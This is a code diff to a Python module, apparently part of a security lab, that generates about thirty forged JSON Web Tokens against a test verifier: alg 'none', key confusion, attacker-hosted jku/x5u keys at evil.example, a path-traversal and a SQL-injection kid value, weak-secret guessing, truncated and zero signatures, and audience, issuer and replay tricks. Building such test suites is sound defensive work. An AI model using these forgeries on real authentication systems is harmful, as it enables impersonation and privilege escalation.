@@ -9,16 +9,16 @@ from __future__ import annotations
 
 import hmac
 import json
-from collections.abc import Mapping
+from collections.abc import Callable, Mapping
 from dataclasses import dataclass
+from functools import cached_property
 from typing import Any
 
-from labs.tokens.attacks.door import GOOD, TYP, WEAK, signed_by
+from labs.tokens.attacks.door import GOOD, KEYS, TYP, WEAK, signed_by
 from labs.tokens.attacks.doors import Web, pem
-from labs.tokens.examples import AUDIENCE, ED25519, NOW, P256, RSA, example_key
+from labs.tokens.examples import AUDIENCE, ED25519, NOW, example_key
 from labs.tokens.jws import base64url, public_jwk, read_key, sign
 
-ADAS = GOOD["RS256"]
 EVIL_PAGE = "https://evil.example/key.json"
 COMMON = ("123456", "password", "qwerty", "letmein", "sunshine", "secret")
 """The first words of a word list."""
@@ -28,12 +28,22 @@ MINE: dict[str, Any] = {**ED25519, "alg": "Ed25519"}
 
 @dataclass(frozen=True)
 class Attack:
-    """Tokens, shown one after the other; `trick` says what the forger hopes for."""
+    """`forge` makes the tokens, shown one after the other; `trick` says what the forger hopes for."""
 
     name: str
     trick: str
-    tokens: tuple[str, ...]
+    forge: Callable[[], tuple[str, ...]]
     now: float = NOW
+
+    @cached_property
+    def tokens(self) -> tuple[str, ...]:
+        """What is shown to the door: made once, when it is first asked for."""
+        return self.forge()
+
+
+def adas() -> str:
+    """The token of Ada's that the forger has."""
+    return GOOD["RS256"]
 
 
 def part(value: Any) -> str:
@@ -55,12 +65,12 @@ def claims_of(token: str) -> dict[str, Any]:
 def begun_with(token: str) -> str:
     """The good token of Ada's that a forgery is best compared with: signed by the key that the forgery names."""
     kid = json.loads(base64url.decode(token.split(".")[0])).get("kid")
-    return {"spring": GOOD["ES256"], "office": GOOD["HS256"]}.get(kid, ADAS)
+    return {"spring": GOOD["ES256"], "office": GOOD["HS256"]}.get(kid, adas())
 
 
 def as_admin(**more: Any) -> dict[str, Any]:
     """Ada's claims, with the role that the forger wants."""
-    return {**claims_of(ADAS), "role": "admin", **more}
+    return {**claims_of(adas()), "role": "admin", **more}
 
 
 def bare(alg: str, signature: str = "", **header: Any) -> str:
@@ -97,7 +107,7 @@ def short_r() -> str:
     """A good ES256 token whose r begins with a zero byte, without that byte: 63 bytes for 64."""
     key = example_key("ES256", "spring")
     for i in range(5000):
-        token = sign(written({**claims_of(ADAS), "n": i}), key, {"typ": TYP})
+        token = sign(written({**claims_of(adas()), "n": i}), key, {"typ": TYP})
         signing_input, _, signature = token.rpartition(".")
         made = base64url.decode(signature)
         if made[0] == 0:
@@ -129,60 +139,16 @@ def _two_algs() -> str:
 
 
 def _stripped() -> str:
-    return f"{ADAS.split('.')[0]}.{part(as_admin())}."
+    return f"{adas().split('.')[0]}.{part(as_admin())}."
 
 
-def _attacks() -> list[Attack]:
-    rsa = public_jwk({**RSA, "alg": "RS256"})
-    public_pem = pem(read_key(rsa).checks_with)
-    Web.pages[EVIL_PAGE] = public_jwk(MINE)
-    head, _, tail = ADAS.split(".")
-    office = GOOD["HS256"].rpartition(".")
-    return [
-        Attack("alg none", "The header says that the token is not signed.", (bare("none"),)),
-        Attack("alg nOnE", "The same, spelt so that a list of forbidden names misses it.", (bare("nOnE"),)),
-        Attack("signature removed", "The header is Ada's; the signature is empty.", (_stripped(),)),
-        Attack("payload changed", "Ada's signature, under other claims.", (f"{head}.{part(as_admin())}.{tail}",)),
-        Attack("RS256 → HS256", "The public key, used as if it were a shared secret.",
-               (with_hmac(public_pem, {"kid": "winter"}),)),
-        Attack("ES256 → HS256", "The same with the other public key.",
-               (with_hmac(pem(read_key(public_jwk({**P256, "alg": "ES256"})).checks_with), {"kid": "spring"}),)),
-        Attack("a stranger's key", "Signed by the forger, under the name of a trusted key.",
-               (with_mine(kid="winter"),)),
-        Attack("jwk", "The token brings the key that it is to be verified with.", (with_mine(jwk=public_jwk(MINE)),)),
-        Attack("jku", "The token says at which address its key is.", (with_mine(jku=EVIL_PAGE),)),
-        Attack("x5u", "The same, for a certificate.", (with_mine(x5u=EVIL_PAGE),)),
-        Attack("kid as a path", "The key is a file that is known to be empty.",
-               (with_hmac(b"", {"kid": "../../dev/null"}),)),
-        Attack("kid as a query", "The key is whatever the forger's query selects.",
-               (with_hmac(b"mine", {"kid": "x' UNION SELECT 'mine' --"}),)),
-        Attack("weak secret", "Guessed with a word list, from one token.",
-               (with_hmac(guessed(old_token()), {"kid": "legacy"}),)),
-        Attack("cut-off HMAC", "Only the first byte of a signature: 1 in 256 fits.", (_one_byte(),)),
-        Attack("r = s = 0", "A signature of 64 zero bytes.",
-               (bare("ES256", base64url.encode(bytes(64)), kid="spring"),)),
-        Attack("63 bytes for 64", "A second spelling of a good signature.", (short_r(),)),
-        Attack("spare bits", "A second spelling of a good token.", (spare_bits(f"{office[0]}.{office[2]}"),)),
-        Attack("alg twice", "One reader takes the first, another the last.", (_two_algs(),)),
-        Attack("role twice", "A name pasted into the JSON brings a second role.", (_pasted(),)),
-        Attack("unknown crit", "An extension that must be understood, and is not.",
-               (signed_by("office", {"crit": ["one-use"], "one-use": True}),)),
-        Attack("b64 false", "The payload is said not to be base64url.",
-               (twice(b'{"alg":"HS256","kid":"office","typ":"at+jwt","b64":false,"crit":["b64"]}',
-                      written(claims_of(ADAS))),)),
-        Attack("another typ", "An ID token, signed by the same issuer, as an access token.",
-               (signed_by("winter", {"typ": "JWT"}),)),
-        Attack("another audience", "Ada's token for the bank.", (signed_by("winter", aud="bank.example"),)),
-        Attack("part of audience", "Meant for a name that contains ours.",
-               (signed_by("winter", aud=f"{AUDIENCE}.evil.example"),)),
-        Attack("another issuer", "Signed with a trusted key, in somebody else's name.",
-               (signed_by("winter", iss="evil.example"),)),
-        Attack("part of issuer", "An issuer whose name is a part of ours.", (signed_by("winter", iss="login"),)),
-        Attack("expired", "Ada's token, a second after its end.", (ADAS,), NOW + 301),
-        Attack("no exp", "A token that never ends.", (signed_by("winter", exp=None),)),
-        Attack("not yet valid", "A token for tomorrow.", (signed_by("winter", nbf=NOW + 1, exp=NOW + 600),)),
-        Attack("replay", "Ada's token, a second time.", (ADAS, ADAS)),
-    ]  # fmt: skip
+def _payload_changed() -> str:
+    head, _, tail = adas().split(".")
+    return f"{head}.{part(as_admin())}.{tail}"
+
+
+def _public_as_secret(kid: str) -> str:
+    return with_hmac(pem(KEYS[kid].material), {"kid": kid})
 
 
 def _one_byte() -> str:
@@ -192,4 +158,50 @@ def _one_byte() -> str:
     return f"{signing_input}.{base64url.encode(whole[:1])}"
 
 
-ATTACKS = {attack.name: attack for attack in _attacks()}
+Web.pages[EVIL_PAGE] = public_jwk(MINE)
+_ATTACKS = [
+    Attack("alg none", "The header says that the token is not signed.", lambda: (bare("none"),)),
+    Attack("alg nOnE", "The same, spelt so that a list of forbidden names misses it.", lambda: (bare("nOnE"),)),
+    Attack("signature removed", "The header is Ada's; the signature is empty.", lambda: (_stripped(),)),
+    Attack("payload changed", "Ada's signature, under other claims.", lambda: (_payload_changed(),)),
+    Attack("RS256 → HS256", "The public key, used as if it were a shared secret.",
+           lambda: (_public_as_secret("winter"),)),
+    Attack("ES256 → HS256", "The same with the other public key.", lambda: (_public_as_secret("spring"),)),
+    Attack("a stranger's key", "Signed by the forger, under the name of a trusted key.",
+           lambda: (with_mine(kid="winter"),)),
+    Attack("jwk", "The token brings the key that it is to be verified with.",
+           lambda: (with_mine(jwk=public_jwk(MINE)),)),
+    Attack("jku", "The token says at which address its key is.", lambda: (with_mine(jku=EVIL_PAGE),)),
+    Attack("x5u", "The same, for a certificate.", lambda: (with_mine(x5u=EVIL_PAGE),)),
+    Attack("kid as a path", "The key is a file that is known to be empty.",
+           lambda: (with_hmac(b"", {"kid": "../../dev/null"}),)),
+    Attack("kid as a query", "The key is whatever the forger's query selects.",
+           lambda: (with_hmac(b"mine", {"kid": "x' UNION SELECT 'mine' --"}),)),
+    Attack("weak secret", "Guessed with a word list, from one token.",
+           lambda: (with_hmac(guessed(old_token()), {"kid": "legacy"}),)),
+    Attack("cut-off HMAC", "Only the first byte of a signature: 1 in 256 fits.", lambda: (_one_byte(),)),
+    Attack("r = s = 0", "A signature of 64 zero bytes.",
+           lambda: (bare("ES256", base64url.encode(bytes(64)), kid="spring"),)),
+    Attack("63 bytes for 64", "A second spelling of a good signature.", lambda: (short_r(),)),
+    Attack("spare bits", "A second spelling of a good token.", lambda: (spare_bits(GOOD["HS256"]),)),
+    Attack("alg twice", "One reader takes the first, another the last.", lambda: (_two_algs(),)),
+    Attack("role twice", "A name pasted into the JSON brings a second role.", lambda: (_pasted(),)),
+    Attack("unknown crit", "An extension that must be understood, and is not.",
+           lambda: (signed_by("office", {"crit": ["one-use"], "one-use": True}),)),
+    Attack("b64 false", "The payload is said not to be base64url.",
+           lambda: (twice(b'{"alg":"HS256","kid":"office","typ":"at+jwt","b64":false,"crit":["b64"]}',
+                          written(claims_of(adas()))),)),
+    Attack("another typ", "An ID token, signed by the same issuer, as an access token.",
+           lambda: (signed_by("winter", {"typ": "JWT"}),)),
+    Attack("another audience", "Ada's token for the bank.", lambda: (signed_by("winter", aud="bank.example"),)),
+    Attack("part of audience", "Meant for a name that contains ours.",
+           lambda: (signed_by("winter", aud=f"{AUDIENCE}.evil.example"),)),
+    Attack("another issuer", "Signed with a trusted key, in somebody else's name.",
+           lambda: (signed_by("winter", iss="evil.example"),)),
+    Attack("part of issuer", "An issuer whose name is a part of ours.", lambda: (signed_by("winter", iss="login"),)),
+    Attack("expired", "Ada's token, a second after its end.", lambda: (adas(),), NOW + 301),
+    Attack("no exp", "A token that never ends.", lambda: (signed_by("winter", exp=None),)),
+    Attack("not yet valid", "A token for tomorrow.", lambda: (signed_by("winter", nbf=NOW + 1, exp=NOW + 600),)),
+    Attack("replay", "Ada's token, a second time.", lambda: (adas(), adas())),
+]  # fmt: skip
+ATTACKS = {attack.name: attack for attack in _ATTACKS}
